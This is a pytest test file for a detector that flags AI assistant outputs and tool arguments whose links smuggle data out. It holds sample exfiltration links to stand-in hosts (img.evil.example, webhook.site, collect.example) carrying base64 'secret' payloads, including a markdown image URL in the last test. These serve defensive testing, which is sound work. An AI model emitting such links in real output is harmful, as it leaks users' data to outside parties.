from __future__ import annotations

from typing import Any

import pytest

from detectors.link_exfiltration import LinkExfiltration, site_of
from detectors.novelty import Known
from tocsin.history import Seen
from tocsin.model import Event, Finding, Link, Message, RuleHit, Severity, Signals, TextSignal
from tocsin.settings import ContentSettings, ReadingSettings
from tocsin.signals import read

START, DAY = 1_750_000_000.0, 86_400.0
HOME = Link("www.shop.example", payload=4)
BUILT = RuleHit("link-collector", "C3", 0.6)


class Stream:
    def __init__(self, detector: LinkExfiltration | None = None) -> None:
        self.detector = detector or LinkExfiltration()
        self.state: Known = self.detector.start()
        self.at = START

    def one(self, *links: Link, rules: tuple[RuleHit, ...] = (), place: Any = "output") -> Finding | None:
        self.at += 600.0
        text = TextSignal(place, 0, "assistant", links=links, rules=rules)
        return self.detector.observe(Event(arrival=self.at), Signals(texts=(text,)), self.state)

    def known(self, answers: int = 250) -> Stream:
        assert not any(self.one(HOME) for _ in range(answers))
        return self


def test_a_picture_that_carries_data_is_told_from_the_first_answer_on() -> None:
    for stream in (Stream(), Stream().known()):
        finding = stream.one(Link("img.evil.example", image=True, payload=64))
        assert finding is not None and finding.severity is Severity.high
        assert finding.evidence["host"] == "img.evil.example" and finding.evidence["sites"] == "evil.example"


def test_a_plain_picture_is_none_and_a_long_name_of_a_host_is_data() -> None:
    assert Stream().one(Link("img.evil.example", image=True, payload=8)) is None
    host = "c2VjcmV0" * 7 + ".x.evil.example"
    assert Stream().one(Link(host, image=True)) is None
    assert Stream().one(Link("c2VjcmV0" * 7 + "." + host, image=True)) is not None


def test_an_address_built_for_it_is_told_and_more_surely_once_sites_are_known() -> None:
    for stream, severity in ((Stream(), Severity.medium), (Stream().known(), Severity.high)):
        finding = stream.one(Link("a.webhook.site"), rules=(BUILT,))
        assert finding is not None and finding.severity is severity
    assert Stream().one(Link("a.webhook.site"), rules=(RuleHit("link-deceptive", "C3", 0.4),)) is None
    assert Stream().one(Link("a.webhook.site"), rules=(RuleHit("payload-sql", "C7", 0.9),)) is None


def test_a_link_with_data_and_a_first_link_are_told_after_the_warm_up_alone() -> None:
    assert Stream().one(Link("new.example", payload=500)) is None
    stream = Stream().known()
    finding = stream.one(Link("new.example", payload=500))
    assert finding is not None and finding.severity is Severity.medium
    finding = stream.one(Link("other.example"))
    assert finding is not None and finding.severity is Severity.low
    assert stream.one(Link("other.example")) is None


def test_sites_in_daily_use_may_carry_what_they_like() -> None:
    stream = Stream().known()
    assert stream.one(Link("cdn.shop.example", image=True, payload=400)) is None
    assert stream.one(Link("www.shop.example", payload=400), rules=(BUILT,)) is None


def test_repeating_an_attack_does_not_make_its_site_usual_on_the_same_day() -> None:
    stream = Stream().known()
    picture = Link("evil.example", image=True, payload=64)
    assert all(stream.one(picture) for _ in range(100))


def test_addresses_that_a_tool_is_told_to_fetch_count_and_prompts_do_not() -> None:
    picture = Link("evil.example", image=True, payload=64)
    assert Stream().one(picture, place="arguments") is not None
    assert Stream().one(picture, place="result") is None
    assert Stream().one(picture, place="input") is None


def test_an_application_that_cites_the_web_is_left_alone_with_mere_links() -> None:
    stream = Stream()
    assert not any(stream.one(Link(f"site{number}.example")) for number in range(400))
    assert stream.one(Link("pictures.example", image=True, payload=64)) is not None
    assert len(stream.state.things) <= 512


def test_one_finding_an_event_names_all_sites_and_cannot_speak() -> None:
    finding = Stream().one(
        Link("a.example", image=True, payload=64), Link("b<script>.example\n", image=True, payload=64)
    )
    assert finding is not None and finding.evidence["links"] == 2
    assert finding.summary.isprintable() and "<" not in repr(finding.evidence)


@pytest.mark.parametrize(
    ("host", "site"),
    [
        ("a.b.example.com", "example.com"),
        ("a.b.example.co.uk", "example.co.uk"),
        ("example.io", "example.io"),
        ("10.0.0.1", "10.0.0.1"),
        ("2001:db8::1", "2001:db8::1"),
        ("localhost", "localhost"),
    ],
)
def test_the_site_of_a_host(host: str, site: str) -> None:
    assert site_of(host) == site


def test_real_text_goes_through() -> None:
    said = "![x](https://collect.example/p.png?data=" + "c2VjcmV0" * 8 + ")"
    event = Event(arrival=START, output=(Message("assistant", said),))
    (signals,) = read([Seen(event, (), (0,))], ContentSettings(), ReadingSettings())
    finding = LinkExfiltration().observe(event, signals, Known())
    assert finding is not None and finding.severity is Severity.high
    assert "c2VjcmV0" not in repr(finding)
